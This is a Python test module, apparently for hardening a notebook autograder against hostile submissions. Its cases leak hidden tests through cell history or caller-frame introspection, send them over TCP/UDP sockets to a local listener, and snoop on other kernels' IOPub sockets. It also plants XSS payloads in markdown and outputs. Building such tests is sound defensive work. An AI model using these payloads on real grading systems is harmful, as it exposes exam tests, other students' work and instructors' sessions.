"""Leaks: hidden tests, other students' work or the instructor's session reached from a submission.

- hidden tests into the student's own feedback: ``In`` printed, the caller's source printed or
  raised by a function the test calls (plain, and reversed so no text filter can spot it);
- hidden tests sent over the network: TCP and UDP to a listener on this machine, on loopback
  and on the machine's own address;
- other students' work: loopback ports read from ``/proc/net/tcp``, then every IOPub socket
  subscribed to (another kernel's ``execute_input`` is another student's code);
- the instructor's session: ``<script>``, ``<img onerror>``, ``javascript:`` links, SVG
  ``onload`` and JavaScript outputs in markdown and outputs, rendered by the feedback page and
  the Formgrader.

Secure outcome: correct answers keep their points, a failing one fails, and nothing of the
hidden tests reaches the feedback, grades.csv or the listener; no script of a submission is
executable in a page the kit renders.
"""

from .cases import NOTEBOOK, Case, Expected, answer, append
from .kit import Outcome, executable_parts, formgrader_html, reported_number, with_cell_after

CORRECT_SIGMOID = '''
import numpy as np


def sigmoid(x):
    return np.exp(-np.logaddexp(0.0, -np.asarray(x, dtype=float)))
'''

CALLER_SOURCE = '''
import linecache
import sys


def _caller_source():
    frame = getattr(sys, "_get" + "frame")(2)
    return "".join(linecache.getlines(frame.f_code.co_filename))
'''


def history_printed_in_last_cell(kit):
    return {NOTEBOOK: with_cell_after(kit.source, "test_mse", 'print("\\n".join(In))\nprint(_ih[-2])')}


def history_printed_in_answer_cell(kit):
    return {NOTEBOOK: append(kit.source, "mse_answer", "print([cell for cell in In if 'hidden' in cell])")}


def caller_source_printed_from_test(kit):
    code = CORRECT_SIGMOID + CALLER_SOURCE + '''

_correct = sigmoid


def sigmoid(x):
    print(_caller_source())
    return _correct(x)
'''
    return {NOTEBOOK: answer(kit.source, "sigmoid_answer", code)}


def _raising(transform):
    return CORRECT_SIGMOID + CALLER_SOURCE + f'''

_correct = sigmoid


def sigmoid(x):
    if np.size(x) == 11:  # the hidden grid
        raise ValueError({transform}.replace("\\n", " | "))
    return _correct(x)
'''


def caller_source_in_exception(kit):
    return {NOTEBOOK: answer(kit.source, "sigmoid_answer", _raising("_caller_source()"))}


def caller_source_reversed_in_exception(kit):
    return {NOTEBOOK: answer(kit.source, "sigmoid_answer", _raising("_caller_source()[::-1]"))}


def check_no_reversed_hidden_lines(outcome: Outcome):
    from autograder.notebooks.cells import hidden_test_lines

    page = outcome.feedback_html()
    for line in hidden_test_lines(outcome.graded["source"]):
        assert line[::-1][:40] not in page, line


def _sender(kind, address):
    return CORRECT_SIGMOID + CALLER_SOURCE + f'''
import socket

_correct = sigmoid


def _send(text):
    try:
        address = {address}
        if {kind!r} == "udp":
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
                connection.sendto(text.encode()[:60000], (address, __PORT__))
        else:
            with socket.create_connection((address, __PORT__), timeout=2) as connection:
                connection.sendall(text.encode())
    except (OSError, IndexError, ValueError):
        pass


def sigmoid(x):
    _send("CASE " + __CASE_NAME__ + "\\n" + _caller_source())
    return _correct(x)
'''


HOST_ADDRESS = '''_own_address()'''
OWN_ADDRESS = '''

def _own_address():
    """The machine's address on its default route (a UDP connect sends nothing)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("10.255.255.255", 1))
        return probe.getsockname()[0]
'''


def _network_case(name, kind, address):
    def make(kit):
        code = _sender(kind, address) + OWN_ADDRESS
        code = code.replace("__PORT__", str(kit.listener_port)).replace("__CASE_NAME__", repr(name))
        return {NOTEBOOK: answer(kit.source, "sigmoid_answer", code)}
    make.__name__ = name
    return make


def check_listener_got_nothing(outcome: Outcome):
    received = outcome.graded["listener"].text()
    mark = f"CASE {outcome.student}"
    assert mark not in received, received[received.index(mark):][:300]


IOPUB_PROBE = r'''
import json
import time

import zmq

from ipykernel import get_connection_info

own = {value for value in json.loads(get_connection_info()).values() if isinstance(value, int)}
ports = set()
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    try:
        for line in open(table).read().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            if state == "0A":  # listening
                ports.add(int(local.rsplit(":", 1)[1], 16))
    except OSError:
        pass
context = zmq.Context.instance()
sockets = []
for port in sorted(ports - own):
    sub = context.socket(zmq.SUB)
    sub.setsockopt(zmq.SUBSCRIBE, b"")
    sub.setsockopt(zmq.LINGER, 0)
    sub.connect(f"tcp://127.0.0.1:{port}")
    sockets.append(sub)
poller = zmq.Poller()
for sub in sockets:
    poller.register(sub, zmq.POLLIN)
foreign, code, deadline = 0, 0, time.time() + 4.0
while sockets and time.time() < deadline:
    for sub, _ in poller.poll(100):
        frames = sub.recv_multipart()
        if not any(b"iopub_probe_marker" in frame for frame in frames):
            foreign += 1
            code += any(b"execute_input" in frame for frame in frames)
for sub in sockets:
    sub.close()
print(f"iopub: listening_ports={len(ports)} foreign_messages={foreign} foreign_execute_inputs={code}")
# iopub_probe_marker
'''


def iopub_of_other_kernels(kit):
    return {NOTEBOOK: append(kit.source, "mse_answer", IOPUB_PROBE)}


def check_no_foreign_iopub(outcome: Outcome):
    text = outcome.outputs_text()
    assert reported_number(text, "foreign_messages") in (0, None), text[-400:]


# --- scripts in what the kit renders ----------------------------------------------------------------
def _xss(name, payload):
    """JavaScript that, if it ever runs, leaves a trace: sets a global named after the case."""
    return payload.replace("JS", f"window.xss_{name}=1")


def xss_script_in_markdown(kit):
    cell = _xss("xss_script_in_markdown", "Notes.\n\n<script>JS</script>\n\n<div><script>JS</script></div>")
    return {NOTEBOOK: with_cell_after(kit.source, "sigmoid_answer", cell, kind="markdown")}


def xss_img_onerror_in_written_answer(kit):
    text = _xss("xss_img_onerror_in_written_answer", 'Because exp overflows. <img src="x" onerror="JS">\n\n'
                '<svg onload="JS"><circle r="4"/></svg>')
    return {NOTEBOOK: answer(kit.source, "saturation_answer", text)}


def xss_javascript_link_in_markdown(kit):
    text = _xss("xss_javascript_link_in_markdown", "[my notes](javascript:JS) and <a href=\"javascript:JS\">more</a> "
                "and <a href=\" java\tscript:JS\">tabbed</a>")
    return {NOTEBOOK: with_cell_after(kit.source, "sigmoid_answer", text, kind="markdown")}


def _display(name, expression):
    code = _xss(name, "from IPython.display import display, HTML, Javascript, Markdown\n" + expression)
    return code


def xss_html_output(kit):
    code = _display("xss_html_output", 'display(HTML(\'<img src="x" onerror="JS"><script>JS</script>\'))\n'
                    'display({"text/html": "<iframe srcdoc=\\"<script>JS</script>\\"></iframe>"}, raw=True, '
                    'metadata={"text/html": {"isolated": True}})')
    return {NOTEBOOK: append(kit.source, "sigmoid_answer", code)}


def xss_javascript_output(kit):
    code = _display("xss_javascript_output", 'display(Javascript("JS"))\n'
                    'display({"application/javascript": "JS", "text/plain": "js"}, raw=True)')
    return {NOTEBOOK: append(kit.source, "sigmoid_answer", code)}


def xss_svg_and_markdown_outputs(kit):
    code = _display("xss_svg_and_markdown_outputs",
                    'display({"image/svg+xml": \'<svg xmlns="http://www.w3.org/2000/svg" onload="JS"><script>JS'
                    '</script></svg>\'}, raw=True)\n'
                    'display(Markdown(\'<img src="x" onerror="JS"> [link](javascript:JS)\'))')
    return {NOTEBOOK: append(kit.source, "sigmoid_answer", code)}


def check_no_executable_payload(outcome: Outcome):
    marker = f"xss_{outcome.student}"
    pages = {page.name: page.read_text() for page in outcome.feedback_pages()}
    assert pages, "no feedback page"
    pages["formgrader"] = formgrader_html(outcome.course, outcome.student, outcome.case.assignment, NOTEBOOK)
    for name, page in pages.items():
        found = [part for part in executable_parts(page) if marker in part]
        assert not found, (name, found[:3])


def _xss_case(name, make, what):
    return Case(name, what, make, Expected("graded", 3.0), takes_kit=True, check=check_no_executable_payload)


CASES = [
    Case("history_printed_in_last_cell", "a last cell prints In and _ih (the test cells as run, hidden tests "
         "included)", history_printed_in_last_cell, Expected("graded", 3.0), takes_kit=True),
    Case("history_printed_in_answer_cell", "the mse answer prints the cells of In that mention hidden tests",
         history_printed_in_answer_cell, Expected("graded", 3.0), takes_kit=True),
    Case("caller_source_printed_from_test", "the sigmoid prints its caller's source when the test calls it",
         caller_source_printed_from_test, Expected("graded", 3.0), takes_kit=True),
    Case("caller_source_in_exception", "the sigmoid raises ValueError(caller's source) on the hidden grid",
         caller_source_in_exception, Expected("graded", 1.0), takes_kit=True),
    Case("caller_source_reversed_in_exception", "the sigmoid raises the caller's source reversed on the hidden grid",
         caller_source_reversed_in_exception, Expected("graded", 1.0), takes_kit=True,
         check=check_no_reversed_hidden_lines),
    Case("hidden_tests_sent_over_loopback_tcp", "the sigmoid sends its caller's source to a TCP listener on "
         "127.0.0.1", _network_case("hidden_tests_sent_over_loopback_tcp", "tcp", '"127.0.0.1"'),
         Expected("graded", 3.0), takes_kit=True, check=check_listener_got_nothing),
    Case("hidden_tests_sent_over_loopback_udp", "the sigmoid sends its caller's source in UDP datagrams to "
         "127.0.0.1", _network_case("hidden_tests_sent_over_loopback_udp", "udp", '"127.0.0.1"'),
         Expected("graded", 3.0), takes_kit=True, check=check_listener_got_nothing),
    Case("hidden_tests_sent_to_host_address", "the sigmoid sends its caller's source to the machine's own "
         "address (not loopback)", _network_case("hidden_tests_sent_to_host_address", "tcp", HOST_ADDRESS),
         Expected("graded", 3.0), takes_kit=True, check=check_listener_got_nothing),
    Case("iopub_of_other_kernels", "reads listening ports from /proc/net/tcp and subscribes to every IOPub "
         "socket for 4 s", iopub_of_other_kernels, Expected("graded", 3.0), takes_kit=True,
         check=check_no_foreign_iopub),
    _xss_case("xss_script_in_markdown", xss_script_in_markdown, "<script> in a markdown cell"),
    _xss_case("xss_img_onerror_in_written_answer", xss_img_onerror_in_written_answer,
              "<img onerror> and <svg onload> in the written answer (shown in the Formgrader's grading panel)"),
    _xss_case("xss_javascript_link_in_markdown", xss_javascript_link_in_markdown,
              "javascript: links (markdown and HTML, one with a tab inside) in a markdown cell"),
    _xss_case("xss_html_output", xss_html_output, "text/html outputs: <img onerror>, <script>, an isolated "
              "iframe srcdoc"),
    _xss_case("xss_javascript_output", xss_javascript_output, "application/javascript outputs"),
    _xss_case("xss_svg_and_markdown_outputs", xss_svg_and_markdown_outputs,
              "an SVG output with onload and <script>, a text/markdown output with <img onerror>"),
]
